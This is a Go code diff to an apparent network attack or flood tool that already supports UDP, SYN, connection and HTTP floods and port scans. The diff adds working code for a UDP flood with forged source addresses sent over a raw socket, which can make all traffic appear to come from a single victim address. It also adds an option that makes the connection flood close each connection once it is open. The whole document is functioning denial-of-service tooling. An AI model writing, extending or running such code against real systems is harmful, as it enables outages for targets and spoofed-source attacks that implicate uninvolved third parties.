@@ -38,6 +38,9 @@ const (
 	HTTPFlood AttackKind = "http-flood"
 	// PortScan sends SYNs from the attacker's own address to many ports.
 	PortScan AttackKind = "port-scan"
+	// SpoofedUDPFlood sends datagrams from forged sources (Spoof) through a
+	// raw socket: with a /32 or /128, all "from" one victim.
+	SpoofedUDPFlood AttackKind = "spoofed-udp-flood"
 )
 
 // Attack configures one attack.
@@ -75,6 +78,9 @@ type Attack struct {
 	Path string `json:"path,omitempty"`
 	// Conns is the HTTP flood's number of concurrent connections (default 32).
 	Conns int `json:"conns,omitempty"`
+	// CloseEach makes a connection flood close each connection once it is
+	// open, rather than hold them all to the end.
+	CloseEach bool `json:"close_each,omitempty"`
 }
 
 func (a *Attack) setDefaults() {
@@ -100,7 +106,7 @@ func (a *Attack) setDefaults() {
 
 func (a *Attack) check() error {
 	switch a.Kind {
-	case UDPFlood, SYNFlood, ConnFlood, HTTPFlood, PortScan:
+	case UDPFlood, SYNFlood, ConnFlood, HTTPFlood, PortScan, SpoofedUDPFlood:
 	default:
 		return fmt.Errorf("unknown attack %q", a.Kind)
 	}
@@ -260,6 +266,8 @@ func runAttack(ctx context.Context, config []byte, out *reporter) error {
 		err = udpFlood(ctx, &a, &c)
 	case SYNFlood, PortScan:
 		err = rawSYN(ctx, &a, &c)
+	case SpoofedUDPFlood:
+		err = spoofedUDP(ctx, &a, &c)
 	case ConnFlood:
 		err = connFlood(ctx, &a, &c)
 	case HTTPFlood:
@@ -413,6 +421,43 @@ func rawSYN(ctx context.Context, a *Attack, c *counters) error {
 				}
 				tmpl.set(src, uint16(1024+rng.IntN(64511)), uint16(dport), rng.Uint32())
 				copy(s.bufs[i], tmpl.b)
+			}
+			s.send(int(n), c)
+			done += n
+		}
+	})
+}
+
+// spoofedUDP sends datagrams from random sources in a.Spoof (default: like
+// the SYN flood's) through a raw IP socket. A template is built per distinct
+// source, so a forged flood "from" one victim costs a copy per datagram.
+func spoofedUDP(ctx context.Context, a *Attack, c *counters) error {
+	v6 := a.Target.Is6()
+	spoof := a.Spoof
+	if !spoof.IsValid() {
+		spoof = netip.MustParsePrefix("0.0.0.0/0")
+		if v6 {
+			spoof = netip.MustParsePrefix("2000::/3")
+		}
+	}
+	return threads(ctx, a, func(ctx context.Context, id int, p *pacer) error {
+		s, err := newBatchSender(a.Target, unix.SOCK_RAW, unix.IPPROTO_RAW, 0)
+		if err != nil {
+			return err
+		}
+		defer s.close()
+		rng := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), uint64(id)))
+		var done int64
+		for {
+			n := p.next(ctx, done, batchSize)
+			if n < 0 {
+				return nil
+			}
+			for i := range int(n) {
+				src := randomAddr(rng, spoof, v6)
+				frame := packet.Build(packet.Spec{Src: src, Dst: a.Target, Proto: packet.UDP,
+					SrcPort: uint16(1024 + rng.IntN(64511)), DstPort: uint16(a.Port), Payload: a.Payload})
+				s.bufs[i] = frame[14:] // the IP packet: the raw socket adds the link layer
 			}
 			s.send(int(n), c)
 			done += n
@@ -579,7 +624,8 @@ func (b *batchSender) send(n int, c *counters) {
 
 func (b *batchSender) close() { unix.Close(b.fd) }
 
-// connFlood opens connections at the rate and keeps them open until the end.
+// connFlood opens connections at the rate and keeps them open until the end
+// (or, with CloseEach, closes each once it is open).
 func connFlood(ctx context.Context, a *Attack, c *counters) error {
 	addr := netip.AddrPortFrom(a.Target, uint16(a.Port)).String()
 	var (
@@ -622,6 +668,10 @@ func connFlood(ctx context.Context, a *Attack, c *counters) error {
 					return
 				}
 				c.ok.Add(1)
+				if a.CloseEach {
+					cn.Close()
+					return
+				}
 				mu.Lock()
 				conns = append(conns, cn)
 				mu.Unlock()
